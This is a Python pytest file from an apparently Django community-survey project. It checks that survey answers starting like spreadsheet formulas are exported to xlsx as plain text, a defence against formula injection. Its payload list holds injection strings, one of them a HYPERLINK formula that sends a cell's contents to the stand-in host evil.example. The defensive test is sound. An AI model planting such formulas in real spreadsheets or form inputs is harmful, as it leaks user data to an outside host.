"""A survey answer that starts like a formula is exported as text, never as a live formula."""

from __future__ import annotations

import pytest
from openpyxl import load_workbook

from jiceng.community import actions
from jiceng.community.reports import survey_xlsx

pytestmark = pytest.mark.django_db
PAYLOADS = ['=HYPERLINK("http://evil.example/?"&A1,"点我")', "+1+1", "-2+3", "@SUM(A1:A2)", "\t=1", "\r=1"]


def test_survey_answers_starting_like_formulas_are_written_as_text(world, staff, resident_of):
    questions = actions.parse_questions("文字: 建议")
    survey = actions.check_create_survey(staff["haiyu"], world.communities["haiyu"], "调查", questions)
    question = survey.questions.get()
    for payload in PAYLOADS:
        actions.check_answer_survey(actions.Actor(resident_of()), survey.pk, {question.pk: payload})
    sheet = load_workbook(survey_xlsx(survey)).active
    cells = [row[1] for row in sheet.iter_rows(min_row=2)]
    assert all(cell.data_type == "s" for cell in cells)
    # (answers are stored stripped, so the tab and CR cases arrive as "=1")
    assert sorted(cell.value for cell in cells) == sorted("'" + p.strip() for p in PAYLOADS)
